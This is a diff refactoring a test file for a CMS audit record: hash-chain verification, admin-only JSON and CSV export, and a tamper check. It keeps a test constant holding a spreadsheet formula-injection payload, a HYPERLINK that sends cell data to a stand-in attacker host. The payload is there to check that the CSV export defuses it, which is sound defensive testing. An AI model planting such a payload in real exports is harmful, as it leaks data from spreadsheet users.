@@ -3,18 +3,16 @@
 // and in bulk — is appended with who, what and which document; only the super admin reads it
 // (JSON and CSV, an editor's formula-like title defused); `pnpm record:verify` accepts the chain
 // and names the entry someone edited or deleted directly in the database file.
-import { spawn } from 'node:child_process';
 import { copyFile, readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { DatabaseSync } from 'node:sqlite';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { adminLogin, adminRequests, cm, type Account } from './helpers/admin-api.ts';
-import { REPO } from './helpers/paths.ts';
+import { RECORD_TABLE as TABLE, verifyRecord, type RecordEntryJson } from './helpers/record.ts';
 import { startStrapi, type StrapiInstance } from './helpers/strapi.ts';
 
 const STAMP = Date.now().toString(36);
 const NEWS = 'api::news-article.news-article';
-const TABLE = 'stadtportal_publication_record';
 /** An editor's title a spreadsheet would run as a formula. */
 const FORMULA_TITLE = `=HYPERLINK("http://angreifer.example/?d="&A1;"Details") ${STAMP}`;
 
@@ -25,20 +23,7 @@ const as = adminRequests(() => strapi.url, tokens);
 let feuerwehrEmail = '';
 let feuerwehrOrg = '';
 
-interface Entry {
-  seq: number;
-  at: string;
-  actorId: number | null;
-  actor: string;
-  action: string;
-  contentType: string | null;
-  documentId: string | null;
-  locale: string | null;
-  label: string | null;
-  organisation: string | null;
-  prevHash: string;
-  hash: string;
-}
+type Entry = RecordEntryJson;
 
 const asAdmin = (path: string) => fetch(`${strapi.url}${path}`, { headers: { authorization: `Bearer ${adminToken}` } });
 
@@ -65,21 +50,8 @@ const newsDraft = (slug: string, title: string) => ({
   organisation: { connect: [{ documentId: feuerwehrOrg }] },
 });
 
-/** `node scripts/record/verify.ts` against a database file: exit code and output. */
-function verify(file: string, ...args: string[]): Promise<{ code: number | null; out: string }> {
-  return new Promise((resolve, reject) => {
-    const child = spawn(process.execPath, [join(REPO, 'scripts/record/verify.ts'), ...args], {
-      cwd: REPO,
-      env: { ...process.env, DATABASE_CLIENT: 'sqlite', DATABASE_FILENAME: file },
-      stdio: ['ignore', 'pipe', 'pipe'],
-    });
-    let out = '';
-    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
-    child.stderr.on('data', (d: Buffer) => (out += d.toString()));
-    child.on('error', reject);
-    child.on('exit', (code) => resolve({ code, out }));
-  });
-}
+/** `pnpm record:verify` against a SQLite file. */
+const verify = (file: string, ...args: string[]) => verifyRecord({ DATABASE_CLIENT: 'sqlite', DATABASE_FILENAME: file }, ...args);
 
 beforeAll(async () => {
   strapi = await startStrapi('sqlite');
